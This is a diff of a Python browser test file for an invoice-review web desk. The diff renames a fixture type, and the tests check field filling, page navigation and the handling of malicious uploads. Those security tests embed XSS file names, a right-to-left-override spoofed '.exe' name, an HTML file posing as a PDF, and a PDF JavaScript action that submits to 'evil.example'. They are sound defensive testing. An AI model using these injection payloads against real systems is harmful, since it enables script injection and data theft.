@@ -12,7 +12,7 @@ from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
 from invoice_pipelines.accounts.roles import Role
 from invoice_pipelines_tests.integration.intake.review.pages import page_of, turned
-from invoice_pipelines_tests.integration.web.intake.conftest import Office
+from invoice_pipelines_tests.integration.web.intake.conftest import IntakeTenant
 from invoice_pipelines_tests.integration.web.pages.reviews.rows import box_of, on_screen, waiting
 from invoice_pipelines_tests.support.desk.visitors import Visitor, needs_chromium, visiting
 from invoice_pipelines_tests.support.intake.documents.text_layer.drawing import draw
@@ -21,7 +21,7 @@ from invoice_pipelines_tests.support.intake.review.lane import uploaded
 pytestmark = needs_chromium
 
 
-def opened(visitor: Visitor, office: Office, invoice: str) -> None:
+def opened(visitor: Visitor, office: IntakeTenant, invoice: str) -> None:
     visitor.open(f"/desk/{office.tenant.slug}/reviews/{invoice}")
     visitor.page.wait_for_selector("#review.lively")
     visitor.page.wait_for_load_state("networkidle")
@@ -39,7 +39,7 @@ def opened(visitor: Visitor, office: Office, invoice: str) -> None:
     ],
 )
 def test_a_word_that_is_clicked_fills_the_field_and_the_next_document_passes(
-    office: Office, browser: Browser, degrees: int, is_zoomed: bool
+    office: IntakeTenant, browser: Browser, degrees: int, is_zoomed: bool
 ) -> None:
     data = turned(page_of("HW-77", "1000.00"), degrees, in_content=True)
     invoice = str(uploaded(office.desk, data, "HW-77.pdf"))
@@ -72,7 +72,7 @@ def test_a_word_that_is_clicked_fills_the_field_and_the_next_document_passes(
     assert office.desk.status(uploaded(office.desk, next_one, "HW-78.pdf")) == "VALIDATED"
 
 
-def test_several_words_are_dragged_over_and_what_is_no_value_is_said(office: Office, browser: Browser) -> None:
+def test_several_words_are_dragged_over_and_what_is_no_value_is_said(office: IntakeTenant, browser: Browser) -> None:
     invoice = waiting(office)
     with visiting(browser, office.site.url, office.tenant.sessions[Role.ACCOUNTANT]) as visitor:
         opened(visitor, office, invoice)
@@ -94,7 +94,7 @@ def test_several_words_are_dragged_over_and_what_is_no_value_is_said(office: Off
         assert page.get_by_label("Seller", exact=True).input_value() == "Zimmerei Holzwurm GmbH"
 
 
-def test_pages_are_turned_by_keys_and_the_marks_are_on_theirs(office: Office, browser: Browser) -> None:
+def test_pages_are_turned_by_keys_and_the_marks_are_on_theirs(office: IntakeTenant, browser: Browser) -> None:
     writer = pypdf.PdfWriter()
     for data in (draw([(50, 100, "Anschreiben zur Rechnung"), (50, 120, "Guten Tag")]), page_of("HW-77", "1000.00")):
         writer.append(BytesIO(data))
@@ -120,7 +120,7 @@ def test_pages_are_turned_by_keys_and_the_marks_are_on_theirs(office: Office, br
         assert page.evaluate("document.querySelectorAll('.sheet img')[1].naturalWidth") > 100
 
 
-def test_sums_are_told_while_one_types(office: Office, browser: Browser) -> None:
+def test_sums_are_told_while_one_types(office: IntakeTenant, browser: Browser) -> None:
     invoice = waiting(office)
     session = office.tenant.sessions[Role.ACCOUNTANT]
     with visiting(browser, office.site.url, session, language="de") as visitor:
@@ -143,7 +143,7 @@ def test_sums_are_told_while_one_types(office: Office, browser: Browser) -> None
 
 
 @pytest.mark.parametrize("name", ["<img src=x onerror=alert(1)>.pdf", "rechnung\u202efdp.exe.pdf"])
-def test_a_document_that_wants_to_run_something_is_a_picture(office: Office, browser: Browser, name: str) -> None:
+def test_a_document_that_wants_to_run_something_is_a_picture(office: IntakeTenant, browser: Browser, name: str) -> None:
     writer = pypdf.PdfWriter(BytesIO(page_of("HW-77", "1000.00", seller="<script>alert(2)</script> GmbH")))
     script = TextStringObject("app.alert('hello'); this.submitForm('https://evil.example');")
     action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script})
@@ -159,7 +159,7 @@ def test_a_document_that_wants_to_run_something_is_a_picture(office: Office, bro
         visitor.open(f"/desk/{office.tenant.slug}/reviews")
 
 
-def test_what_only_calls_itself_a_pdf_is_refused_and_shown_as_nothing(office: Office, browser: Browser) -> None:
+def test_what_only_calls_itself_a_pdf_is_refused_and_shown_as_nothing(office: IntakeTenant, browser: Browser) -> None:
     invoice = str(uploaded(office.desk, b"<html><script>alert(1)</script></html>", "invoice.pdf"))
     with visiting(browser, office.site.url, office.tenant.sessions[Role.ACCOUNTANT]) as visitor:
         visitor.when("dialog", lambda dialog: visitor.complaints.append(f"dialog: {dialog.message}"))
